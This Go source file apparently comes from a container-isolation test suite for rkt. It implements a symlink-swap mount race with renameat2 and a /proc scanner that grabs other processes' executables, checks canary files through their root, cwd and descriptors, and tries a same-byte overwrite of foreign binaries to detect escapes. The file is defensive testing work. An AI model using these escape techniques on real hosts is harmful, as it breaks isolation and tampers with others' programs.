// SPDX-License-Identifier: Apache-2.0

package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"time"

	"golang.org/x/sys/unix"
)

// swap exchanges names in a directory with links, all of which lead to the
// target, until the file "stop" appears in the directory. What is not there is
// made. DIR TARGET NAME...
func swap(args []string) error {
	if len(args) < 3 {
		return errors.New("want a directory, a target and names")
	}
	dir, target, names := args[0], args[1], args[2:]
	for _, n := range names {
		p := filepath.Join(dir, n)
		_ = os.Symlink(target, p+".link")
		if dirs := []string{"pts", "shm", "net", "systemd", "swap", "sys", "self", "bus"}; slices.Contains(dirs, n) {
			_ = os.Mkdir(p, 0o777)
		} else if f, err := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0o666); err == nil {
			_ = f.Close()
		}
	}
	fmt.Fprintln(os.Stdout, "ready")
	stop := filepath.Join(dir, "stop")
	for deadline := time.Now().Add(10 * time.Minute); time.Now().Before(deadline); {
		for range 200 {
			for _, n := range names {
				p := filepath.Join(dir, n)
				_ = unix.Renameat2(unix.AT_FDCWD, p, unix.AT_FDCWD, p+".link", unix.RENAME_EXCHANGE)
			}
		}
		if _, err := os.Lstat(stop); err == nil {
			return nil
		}
	}
	return errors.New("nobody stopped the swapping")
}

// victim is an app whose mounts were raced for. CANARY STOP-DIR
func victim(args []string) error {
	if len(args) != 2 {
		return errors.New("want the canary and the directory of the stop file")
	}
	defer func() { _ = os.WriteFile(filepath.Join(args[1], "stop"), nil, 0o644) }()
	return inspect(args[:1])
}

// inspect looks for the host and tries the walls that a mount at the wrong
// place would open.
func inspect(args []string) error {
	if err := look(args); err != nil {
		return err
	}
	if len(args) > 1 { // near
		return nil
	}
	return deeds([]string{"write", "read"})
}

// hunt waits for processes of others to come in, as rkt enter makes them, and
// tries to get hold of their program, their memory and their descriptors.
func hunt(args []string) error {
	if len(args) != 1 {
		return errors.New("want the path of the canary")
	}
	own, err := inode("/proc/self/exe")
	if err != nil {
		return err
	}
	h := hunter{own: own, canary: args[0], told: map[string]bool{}}
	fmt.Fprintln(os.Stdout, "ready")
	for deadline := time.Now().Add(10 * time.Minute); time.Now().Before(deadline); {
		if _, err := os.Lstat("/tmp/stop"); err == nil {
			fmt.Fprintf(os.Stdout, "hunted %d processes, %d programs of others\n", h.seen, h.strangers)
			done()
			return nil
		}
		h.round()
	}
	return errors.New("nobody stopped the hunt")
}

type hunter struct {
	own             [2]uint64
	canary          string
	told            map[string]bool
	seen, strangers int
	held            []int // O_PATH descriptors of strange programs
}

func (h *hunter) tell(name, format string, args ...any) {
	if !h.told[name] {
		h.told[name] = true
		escaped(name, format, args...)
	}
}

func (h *hunter) round() {
	dir, err := os.Open("/proc")
	if err != nil {
		return
	}
	names, _ := dir.Readdirnames(-1)
	_ = dir.Close()
	own := fmt.Sprint(os.Getpid())
	for _, n := range names {
		if n[0] >= '1' && n[0] <= '9' && n != "1" && n != own {
			h.process("/proc/" + n)
		}
	}
	h.rewrite()
}

func (h *hunter) process(p string) {
	h.seen++
	if fd, err := unix.Open(p+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
		var st unix.Stat_t
		to, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		// other apps of the pod are the same program, and not walled off from each other
		if unix.Fstat(fd, &st) == nil && [2]uint64{st.Dev, st.Ino} != h.own && to != self && len(h.held) < 64 {
			h.strangers++
			h.held = append(h.held, fd)
		} else {
			_ = unix.Close(fd)
		}
	}
	for _, sub := range []string{"/root", "/cwd"} {
		if _, err := os.Stat(p + sub + h.canary); err == nil {
			h.tell("hunt"+sub, "%s%s%s", p, sub, h.canary)
		}
	}
	fds, _ := os.ReadDir(p + "/fd")
	for _, fd := range fds {
		if _, err := os.Stat(p + "/fd/" + fd.Name() + h.canary); err == nil {
			h.tell("hunt/fd", "%s/fd/%s", p, fd.Name())
		}
	}
}

// rewrite tries to write to the programs it holds. A byte is replaced by
// itself, so that a success breaks nothing.
func (h *hunter) rewrite() {
	var keep []int
	for _, fd := range h.held {
		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_RDWR|unix.O_CLOEXEC, 0)
		if errors.Is(err, unix.ETXTBSY) && len(keep) < 32 {
			keep = append(keep, fd)
			continue
		}
		if err == nil {
			b := make([]byte, 1)
			if _, err := unix.Pread(w, b, 0); err == nil {
				if _, err := unix.Pwrite(w, b, 0); err == nil {
					to, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
					h.tell("hunt/exe", "wrote to %s", to)
				}
			}
			_ = unix.Close(w)
		}
		_ = unix.Close(fd)
	}
	h.held = keep
}
